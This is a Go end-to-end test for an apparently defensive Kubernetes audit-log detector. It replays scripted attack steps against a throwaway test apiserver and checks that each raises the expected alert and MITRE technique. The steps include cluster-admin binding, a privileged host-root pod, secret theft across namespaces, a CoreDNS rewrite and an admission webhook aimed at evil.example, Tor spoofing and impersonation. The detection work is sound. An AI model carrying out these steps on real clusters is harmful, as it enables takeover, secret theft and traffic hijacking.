package service

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/google/go-cmp/cmp"

	"github.com/bulwark-sec/bulwark/audit"
	"github.com/bulwark-sec/bulwark/detect"
	"github.com/bulwark-sec/bulwark/testenv"
)

// syncBuffer is a goroutine-safe alert sink buffer.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) alerts(t *testing.T) []detect.Alert {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []detect.Alert
	sc := bufio.NewScanner(bytes.NewReader(b.buf.Bytes()))
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		var a detect.Alert
		if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
			t.Fatalf("alert line: %v", err)
		}
		out = append(out, a)
	}
	return out
}

type headerTransport struct {
	rt     http.RoundTripper
	header http.Header
}

func (h headerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	for k, v := range h.header {
		r.Header[k] = v
	}
	return h.rt.RoundTrip(r)
}

func clientWith(t *testing.T, cfg *rest.Config, mutate func(*rest.Config)) kubernetes.Interface {
	t.Helper()
	c := rest.CopyConfig(cfg)
	mutate(c)
	cs, err := kubernetes.NewForConfig(c)
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

// mustT is the test must reports to; must takes a call's two results.
var mustT *testing.T

func must[T any](v T, err error) T {
	mustT.Helper()
	if err != nil {
		mustT.Fatal(err)
	}
	return v
}

// TestEndToEnd runs "audit serve" with a real kube-apiserver sending its
// audit events to the webhook (client-certificate authentication), plays
// a benign sequence that must raise nothing, then real attack steps as
// different users, and waits for each expected alert and its technique.
func TestEndToEnd(t *testing.T) {
	if _, err := testenv.BinDir(); err != nil {
		testenv.Require(t, false, "%v", err)
	}
	mustT = t
	pki := testenv.NewPKI(t)
	dir := t.TempDir()
	serving := pki.ServingCert(t, "bulwark-audit", "127.0.0.1")
	apiserverClient := pki.ClientCert(t, "kube-apiserver-audit")
	torList := filepath.Join(dir, "tor.txt")
	if err := os.WriteFile(torList, []byte("# test feed\n185.220.101.0/24\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := &syncBuffer{}
	cfg := Config{
		Cluster: "e2e", StateDir: filepath.Join(dir, "state"), JSONLines: true, Fold: -1,
		Lists:   map[string]string{"tor-exit-nodes": torList},
		Webhook: &WebhookConfig{Listen: "127.0.0.1:0", CertFile: serving.CertFile, KeyFile: serving.KeyFile, ClientCAFile: pki.CAFile},
	}
	ctx, cancel := context.WithCancel(context.Background())
	addr := make(chan net.Addr, 1)
	done := make(chan error, 1)
	go func() {
		done <- Run(ctx, cfg, Deps{Stdout: out, Ready: func(a net.Addr) { addr <- a }})
	}()
	var url string
	select {
	case a := <-addr:
		url = "https://" + a.String() + "/audit"
	case err := <-done:
		t.Fatalf("serve: %v", err)
	}
	// Registered before the apiserver starts, so it runs after the
	// apiserver is stopped.
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("serve: %v", err)
		}
	})
	k := testenv.KubeAPIServer(t, testenv.WithPKI(pki), testenv.WithAuditLog(), testenv.WithAuditWebhook(url, pki.CAPEM, &apiserverClient))
	admin := k.Client
	bg := context.Background()

	// --- benign: namespaces, a team's role binding, deployments, services, configmaps.
	for _, ns := range []string{"web", "dev", "prod", "kubernetes-dashboard"} {
		must(admin.CoreV1().Namespaces().Create(bg, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}))
	}
	// (The built-in "edit" role is filled by the aggregation controller,
	// which does not run here: a deployer role of its own.)
	must(admin.RbacV1().ClusterRoles().Create(bg, &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{Name: "deployer"},
		Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch"}},
			{APIGroups: []string{""}, Resources: []string{"services", "configmaps", "pods"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch"}},
		},
	}, metav1.CreateOptions{}))
	must(admin.RbacV1().RoleBindings("web").Create(bg, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "ci-deployer"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "deployer"},
		Subjects:   []rbacv1.Subject{{Kind: "User", Name: "ci-bot"}},
	}, metav1.CreateOptions{}))
	ci := k.ClientFor(t, "ci-bot", "ci")
	// The authorizer sees new bindings within moments.
	for i := 0; ; i++ {
		if _, err := ci.CoreV1().Pods("web").List(bg, metav1.ListOptions{}); err == nil || i == 50 {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	replicas := int32(2)
	for _, app := range []string{"api", "frontend", "worker"} {
		labels := map[string]string{"app": app}
		must(ci.AppsV1().Deployments("web").Create(bg, &appsv1.Deployment{
			ObjectMeta: metav1.ObjectMeta{Name: app},
			Spec: appsv1.DeploymentSpec{Replicas: &replicas, Selector: &metav1.LabelSelector{MatchLabels: labels},
				Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
					Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: app, Image: "registry.example/" + app + ":1.4.2"}}}}},
		}, metav1.CreateOptions{}))
		must(ci.CoreV1().Services("web").Create(bg, &corev1.Service{
			ObjectMeta: metav1.ObjectMeta{Name: app},
			Spec:       corev1.ServiceSpec{Selector: labels, Ports: []corev1.ServicePort{{Port: 8080}}},
		}, metav1.CreateOptions{}))
		must(ci.CoreV1().ConfigMaps("web").Create(bg, &corev1.ConfigMap{
			ObjectMeta: metav1.ObjectMeta{Name: app + "-config"}, Data: map[string]string{"LOG_LEVEL": "info", "LISTEN": ":8080"},
		}, metav1.CreateOptions{}))
		d := must(ci.AppsV1().Deployments("web").Get(bg, app, metav1.GetOptions{}))
		d.Spec.Template.Spec.Containers[0].Image = "registry.example/" + app + ":1.4.3"
		must(ci.AppsV1().Deployments("web").Update(bg, d, metav1.UpdateOptions{}))
	}
	must(ci.CoreV1().Pods("web").List(bg, metav1.ListOptions{}))
	// Let every batch of the benign phase arrive (batches are at most 1s apart).
	marker := must(admin.CoreV1().ConfigMaps("default").Create(bg, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "benign-done"}}, metav1.CreateOptions{}))
	_ = marker
	time.Sleep(4 * time.Second)
	if got := out.alerts(t); len(got) != 0 {
		for _, a := range got {
			t.Errorf("benign sequence raised %s: %s (%s)", a.RuleID, a.Message, a.Actor.User)
		}
	}

	// --- attack.
	start := time.Now()
	// 1. A stolen admin credential binds cluster-admin to mallory.
	must(admin.RbacV1().ClusterRoleBindings().Create(bg, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "mallory-admin"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: "User", Name: "mallory"}},
	}, metav1.CreateOptions{}))
	mallory := k.ClientFor(t, "mallory", "devs")
	// 2. A privileged pod with the host's root and PID namespace.
	priv, root := true, corev1.HostPathDirectory
	must(mallory.CoreV1().Pods("dev").Create(bg, &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "attacker"},
		Spec: corev1.PodSpec{HostPID: true,
			Containers: []corev1.Container{{Name: "sh", Image: "busybox:1.36", SecurityContext: &corev1.SecurityContext{Privileged: &priv},
				VolumeMounts: []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}}},
			Volumes: []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/", Type: &root}}}}},
	}, metav1.CreateOptions{}))
	// 3. Exec into it: the POST reaches the apiserver and is authorized; it
	// fails later because no kubelet runs the pod.
	_ = mallory.CoreV1().RESTClient().Post().Namespace("dev").Resource("pods").Name("attacker").SubResource("exec").
		Param("command", "id").Param("stdout", "true").Do(bg).Error()
	// 4. Expose the dashboard.
	must(mallory.CoreV1().Services("kubernetes-dashboard").Create(bg, &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Name: "kubernetes-dashboard"},
		Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeNodePort, Selector: map[string]string{"k8s-app": "kubernetes-dashboard"},
			Ports: []corev1.ServicePort{{Port: 443}}},
	}, metav1.CreateOptions{}))
	// 5. Cover tracks: delete events.
	if err := mallory.CoreV1().Events("dev").DeleteCollection(bg, metav1.DeleteOptions{}, metav1.ListOptions{}); err != nil {
		t.Fatal(err)
	}
	// 6. A crypto-miner.
	must(mallory.CoreV1().Pods("dev").Create(bg, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "miner"},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "m", Image: "docker.io/xmrig/xmrig:6.21"}}}}, metav1.CreateOptions{}))
	// 7. A service account of dev reads secrets of prod.
	must(admin.CoreV1().Secrets("prod").Create(bg, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db-password"}, StringData: map[string]string{"password": "x"}}, metav1.CreateOptions{}))
	must(mallory.RbacV1().ClusterRoleBindings().Create(bg, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "dev-sa-view"},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: "default", Namespace: "dev"}},
	}, metav1.CreateOptions{}))
	sa := k.ClientFor(t, "system:serviceaccount:dev:default", "system:serviceaccounts", "system:serviceaccounts:dev")
	must(sa.CoreV1().Secrets("prod").Get(bg, "db-password", metav1.GetOptions{}))
	// 8. CoreDNS poisoning.
	must(admin.CoreV1().ConfigMaps("kube-system").Create(bg, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "coredns"}, Data: map[string]string{"Corefile": ".:53 {}"}}, metav1.CreateOptions{}))
	cm := must(mallory.CoreV1().ConfigMaps("kube-system").Get(bg, "coredns", metav1.GetOptions{}))
	cm.Data["Corefile"] = ".:53 { rewrite name bank.example evil.example }"
	must(mallory.CoreV1().ConfigMaps("kube-system").Update(bg, cm, metav1.UpdateOptions{}))
	// 9. A malicious admission webhook (matching nothing that exists, so
	// the rest of the test is unaffected).
	ignore, none := admissionregistrationv1.Ignore, admissionregistrationv1.SideEffectClassNone
	evilURL := "https://evil.example/admit"
	must(mallory.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(bg, &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "evil"},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "evil.example.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &evilURL},
			Rules:         []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{"CREATE"}, Rule: admissionregistrationv1.Rule{APIGroups: []string{"example.com"}, APIVersions: []string{"v1"}, Resources: []string{"nothings"}}}},
			FailurePolicy: &ignore, SideEffects: &none, AdmissionReviewVersions: []string{"v1"}}},
	}, metav1.CreateOptions{}))
	// 10. Reconnaissance with a pentest tool, through Tor, and by impersonation.
	hunter := clientWith(t, k.ConfigFor(t, "mallory", "devs"), func(c *rest.Config) { c.UserAgent = "kube-hunter/0.6.8" })
	must(hunter.CoreV1().Pods("").List(bg, metav1.ListOptions{}))
	viaTor := clientWith(t, k.ConfigFor(t, "mallory", "devs"), func(c *rest.Config) {
		c.WrapTransport = func(rt http.RoundTripper) http.RoundTripper {
			return headerTransport{rt: rt, header: http.Header{"X-Forwarded-For": {"185.220.101.7"}}}
		}
	})
	must(viaTor.CoreV1().Namespaces().List(bg, metav1.ListOptions{}))
	asBob := clientWith(t, k.ConfigFor(t, "mallory", "devs"), func(c *rest.Config) { c.Impersonate = rest.ImpersonationConfig{UserName: "bob"} })
	_, _ = asBob.CoreV1().Pods("prod").List(bg, metav1.ListOptions{})
	// 11. An identity without rights probes: a burst of 403s.
	eve := k.ClientFor(t, "eve", "contractors")
	for range 25 {
		_, _ = eve.CoreV1().Secrets("prod").List(bg, metav1.ListOptions{})
	}

	want := map[string]string{ // rule -> technique
		"AUD-CLUSTER-ADMIN-BINDING":     "T1098.006",
		"AUD-PRIVILEGED-CONTAINER":      "T1611",
		"AUD-SENSITIVE-HOSTPATH":        "T1611",
		"AUD-HOST-NAMESPACES":           "T1611",
		"AUD-EXEC":                      "T1609",
		"AUD-EXPOSED-DASHBOARD":         "T1133",
		"AUD-DELETE-EVENTS":             "T1070",
		"AUD-CRYPTO-MINER-IMAGE":        "T1496",
		"AUD-SECRETS-OTHER-NAMESPACE":   "T1552.007",
		"AUD-COREDNS-MODIFIED":          "T1557",
		"AUD-ADMISSION-WEBHOOK-CREATED": "T1543",
		"AUD-PENTEST-TOOL":              "T1613",
		"AUD-TOR-PROXY-SOURCE":          "T1090.003",
		"AUD-IMPERSONATION":             "T1550.001",
		"AUD-FORBIDDEN-BURST":           "T1069",
	}
	deadline := time.Now().Add(30 * time.Second)
	var got map[string]detect.Alert
	for {
		got = map[string]detect.Alert{}
		for _, a := range out.alerts(t) {
			if _, seen := got[a.RuleID]; !seen {
				got[a.RuleID] = a // the first of each rule
			}
		}
		missing := 0
		for id := range want {
			if _, ok := got[id]; !ok {
				missing++
			}
		}
		if missing == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Logf("all expected alerts within %s of the first attack step", time.Since(start).Round(100*time.Millisecond))
	for id, tech := range want {
		a, ok := got[id]
		if !ok {
			t.Errorf("no %s alert", id)
			continue
		}
		if a.Technique != tech || a.Cluster != "e2e" || len(a.Evidence) == 0 {
			t.Errorf("%s: technique %s (want %s), cluster %q, %d evidence", id, a.Technique, tech, a.Cluster, len(a.Evidence))
		}
	}
	// Who did it, as the alerts say.
	actors := map[string]string{"AUD-CLUSTER-ADMIN-BINDING": "admin", "AUD-EXEC": "mallory", "AUD-SECRETS-OTHER-NAMESPACE": "system:serviceaccount:dev:default", "AUD-FORBIDDEN-BURST": "eve", "AUD-IMPERSONATION": "bob"}
	for id, user := range actors {
		if a, ok := got[id]; ok && a.Actor.User != user {
			t.Errorf("%s: actor %q, want %q", id, a.Actor.User, user)
		}
	}
	if a, ok := got["AUD-IMPERSONATION"]; ok && a.Actor.Impersonator != "mallory" {
		t.Errorf("impersonation: impersonator %q", a.Actor.Impersonator)
	}
	var ids []string
	for id := range got {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	t.Logf("alerts raised: %v", ids)

	// Same answer everywhere: replaying the apiserver's own audit log file
	// raises the same rules as the webhook did.
	res, err := Replay(bg, ReplayConfig{Path: k.AuditLogPath, Rules: audit.RulesConfig{Cluster: "e2e", Lists: map[string]string{"tor-exit-nodes": torList}}})
	if err != nil {
		t.Fatal(err)
	}
	replayed := map[string]bool{}
	for _, a := range res.Alerts {
		replayed[a.RuleID] = true
	}
	var rids []string
	for id := range replayed {
		rids = append(rids, id)
	}
	sort.Strings(rids)
	if diff := cmp.Diff(ids, rids); diff != "" {
		t.Errorf("replay of the audit log file raised other rules than the webhook (-webhook +replay):\n%s", diff)
	}
	if res.Events == 0 || res.Rejected != 0 {
		t.Errorf("replay read %d events, rejected %d", res.Events, res.Rejected)
	}
}
